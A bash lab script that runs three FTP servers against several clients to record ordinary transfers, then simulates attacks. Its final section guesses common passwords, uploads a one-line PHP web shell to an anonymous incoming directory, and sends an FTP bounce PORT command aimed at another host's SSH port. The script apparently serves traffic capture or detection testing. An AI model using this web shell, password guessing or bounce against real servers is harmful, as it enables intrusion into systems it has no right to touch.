#!/bin/bash
# vsftpd, ProFTPD and Pure-FTPd with curl, lftp and tnftp: listings, transfers both ways, in parts and of great names,
# passive, active and extended, over IPv6 and behind AUTH TLS; then what attackers do: passwords tried, a script put by
# nobody in particular, a data connection asked for to somebody else. saved.txt has the digests of what clients got and gave.
. "$(dirname "$0")/../lab.sh"
need vsftpd curl lftp tnftp openssl libmemcachedutil2 libhiredis0.14 libpcre2-posix3 libsodium23
unpack proftpd-core pure-ftpd
lab_start
make_certificate "$LAB/ftp" ftp.lab.example
cat "$LAB/ftp.key" "$LAB/ftp.crt" >"$LAB/ftp.pem"
mkdir -p "$LAB"/{home,pub/incoming,got,empty}
useradd -M -d "$LAB/home" -s /bin/sh lab-ann 2>/dev/null || true
echo 'lab-ann:Lab-pass1' | chpasswd
trap 'lab_clean; userdel lab-ann 2>/dev/null || true; userdel ftp-lab 2>/dev/null || true' EXIT
seq 1 4000 >"$LAB/home/numbers.txt"
head -c 1500 /dev/zero | tr '\0' 'L' >"$LAB/pub/ledger.bin"
: >"$LAB/home/nothing"
chown -R lab-ann: "$LAB/home"
chmod 777 "$LAB/pub/incoming"
cat >"$LAB/vsftpd.conf" <<C
listen=NO
listen_ipv6=YES
background=NO
anonymous_enable=YES
anon_root=$LAB/pub
anon_upload_enable=YES
anon_umask=022
no_anon_password=NO
local_enable=YES
write_enable=YES
port_promiscuous=YES
pasv_min_port=50000
pasv_max_port=50100
secure_chroot_dir=$LAB/empty
pam_service_name=ftp
seccomp_sandbox=NO
delay_failed_login=0
max_login_fails=10
ssl_enable=YES
rsa_cert_file=$LAB/ftp.crt
rsa_private_key_file=$LAB/ftp.key
force_local_data_ssl=NO
force_local_logins_ssl=NO
C
server_job vsftpd "$LAB/vsftpd.conf"
wait_port 21
got() { on_client timeout 20 "$@" >/dev/null 2>&1 || true; }
cd "$LAB/got"
USER_PASS=lab-ann:Lab-pass1
printf 'put by curl\n' >"$LAB/note.txt"
got curl -s "ftp://$SERVER/ledger.bin" -o ledger.bin
got curl -s -u $USER_PASS "ftp://$SERVER/" -o listing
got curl -s -u $USER_PASS --ftp-port - "ftp://$SERVER/numbers.txt" -o numbers-active.txt
got curl -s -u $USER_PASS -C 10000 "ftp://$SERVER/numbers.txt" -o numbers-end.txt
got curl -s -u $USER_PASS -g "ftp://[$SERVER6]/numbers.txt" -o numbers-6.txt
got curl -s -u $USER_PASS "ftp://$SERVER/nothing" -o nothing
got curl -s -u $USER_PASS -T "$LAB/note.txt" "ftp://$SERVER/note%20of%20ann.txt"
got curl -s -u $USER_PASS --disable-epsv -a -T "$LAB/note.txt" "ftp://$SERVER/numbers.log"
got curl -s -u $USER_PASS "ftp://$SERVER/missing"
got curl -s -u $USER_PASS --ssl-reqd --insecure "ftp://$SERVER/numbers.txt" -o secret
printf 'user lab-ann Lab-pass1\nascii\nget numbers.txt numbers-ascii.txt\nsystem\ncd /\npwd\nmkdir %s\nquit\n' "$LAB/home/made" |
  got tnftp -n -p $SERVER
# The attacks.
for password in 123456 admin letmein root qwerty toor; do got curl -s -u "lab-ann:$password" "ftp://$SERVER/"; done
printf '<?php system($_GET["c"]); ?>\n' >"$LAB/shell.php"
got curl -s -T "$LAB/shell.php" "ftp://$SERVER/incoming/shell.php"
on_client bash -c 'exec 3<>/dev/tcp/'$SERVER'/21
  for line in "" "USER anonymous" "PASS a@lab.example" "PORT 10,9,0,77,0,22" "NLST" "QUIT"; do
    [ -z "$line" ] || printf "%s\r\n" "$line" >&3
    [ "$line" = NLST ] && continue
    timeout 3 head -n 1 <&3 >/dev/null
  done' || true
stop_servers
cat >"$LAB/proftpd.conf" <<C
ServerType standalone
DefaultServer on
Port 21
User nobody
Group nogroup
UseIPv6 off
UseReverseDNS off
PidFile $LAB/proftpd.pid
ScoreboardFile $LAB/scoreboard
DelayTable none
WtmpLog off
SystemLog $LAB/proftpd.log
TransferLog none
AllowStoreRestart on
AllowRetrieveRestart on
RequireValidShell off
C
server_job "$LAB/proftpd-core/usr/sbin/proftpd" -n -c "$LAB/proftpd.conf"
wait_port 21
got lftp -u lab-ann,Lab-pass1 -e "set ftp:ssl-allow no; set net:timeout 5; ls; get numbers.txt -o numbers-lftp.txt; put $LAB/note.txt -o note.lftp; nlist; bye" $SERVER
got lftp -u lab-ann,Lab-pass1 -e "set ftp:ssl-allow no; set ftp:passive-mode no; set ftp:sync-mode no; set net:timeout 5; get numbers.txt -o numbers-lftp2.txt; bye" $SERVER
stop_servers
server_job "$LAB/pure-ftpd/usr/sbin/pure-ftpd" -S 21 -l unix -H -p 50000:50100
wait_port 21
got lftp -u lab-ann,Lab-pass1 -e "set ftp:ssl-allow no; set net:timeout 5; get numbers.txt -o numbers-pure.txt; bye" $SERVER
got curl -s -u $USER_PASS -Q "SITE HELP" "ftp://$SERVER/note.lftp" -o note-pure
lab_save
(sha256sum ledger.bin numbers-* note-pure && sha256sum "$LAB"/{note.txt,note.txt,note.txt,shell.php}) 2>/dev/null |
  awk '{ sub(".*/", "", $2); print $1, $2 }' >"$HERE/saved.txt"
